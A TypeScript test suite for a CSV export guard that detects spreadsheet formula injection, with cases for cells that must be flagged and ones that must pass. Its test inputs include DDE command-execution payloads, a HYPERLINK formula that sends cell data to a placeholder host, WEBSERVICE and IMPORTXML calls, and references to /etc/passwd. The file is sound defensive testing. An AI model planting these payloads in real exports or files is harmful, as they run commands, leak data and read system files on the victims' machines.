import { encodeCsv } from "#lib/platform/format/csv.ts";
import { findFormulaLine, isFormula } from "./formulas.ts";

it.each([
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?a="&A1,"Pay")',
  '+HYPERLINK("http://x.example","Pay")',
  '- HYPERLINK ("http://x.example")',
  '=WEBSERVICE("http://x.example")',
  '=IMPORTXML("http://x.example","//a")',
  "=A1",
  "-A1",
  "+SUM(A1:A3)",
  "-5*LOG10(3)",
  "-5+A1",
  "='file:///etc/passwd'#$passwd.A1",
  "+ 'file:///etc/passwd'#$passwd.A1",
  ' "=A1',
  "\uFEFF=A1",
  "＝A1",
  "@A1",
  "-$A$1",
  "-Pay!B",
  "@Ann+A1",
  `- ${"a".repeat(9000)}`,
])("finds that a spreadsheet would run %j", (cell) => {
  expect(isFormula(cell)).toBe(true);
});

it.each([
  "-5.00",
  "($5.00)",
  "-",
  "- $1,234.50",
  "-$1,234.50",
  "-(5.00)",
  "+5%",
  "-1.5E+3",
  "-.5",
  "-8 h",
  "-12.50 CR",
  "+1 212 555 0100",
  "+1 (212) 555-0100",
  "+1(212)555-0100 ext. 5",
  "@ $15.00/hr",
  "- overtime, paid late",
  "- don't count (sick)",
  "-----",
  "=====",
  '="00123"',
  "=5",
  "@home",
  "@ann",
  "-O'Brien",
  "-see Ann",
  '-see "Ann" (late)',
  "+A",
  "- what? Yes!",
  "a=b",
  "5 = 3 + 2",
  "'=A1",
  "dana@fund.example",
  "",
])("allows %j", (cell) => {
  expect(isFormula(cell)).toBe(false);
});

it.each([
  ["name,hours\r\nZoë,-5\r\nAna,=A1\r\n", 3],
  ['name,note\nZoë,"two\nlines"\n"=A1",x\n', 4],
  ["name;hours\nZoë;=A1\n", 2],
  ["name\thours\nZoë\t@A1", 2],
  ["name|hours\nZoë|=A1\n", 2],
  ["sep=^\nname^hours\nZoë^=A1\n", 3],
  ["\uFEFFSEP=:\r\nZoë:=A1\r\n", 2],
  ['"sep= "\nZoë =A1\n', 2],
  ["sep=]\nZoë]=A1\n", 2],
  ["sep=^\nname^@ann\n", null],
  // Text after the quotes is part of the cell.
  ['a,b\n""=HYPERLINK("http://x.example"),1\n', 2],
  ["a,b\n\" \"=cmd|' /C calc'!A0,1\n", 2],
  // With another country's separator, the quote is in the middle of a cell.
  ['x;"y,=A1\n', 1],
  ['name,note\nZoë,"rate = 5, =A1, and so on"\n', null],
  ["name,phone\nZoë,+1 212 555 0100\n", null],
])("finds the line of the first formula in %j", async (text, line) => {
  expect(findFormulaLine(text)).toBe(line);
});

it("finds no formula in the portal's own tables", async () => {
  const cells = ["=A1", "+SUM(A1)", "@x", "-5.00", "- $1,234.50", "a,b", 'say "=A1"'];
  expect(findFormulaLine(new TextDecoder().decode(encodeCsv([cells, cells])))).toBeNull();
});
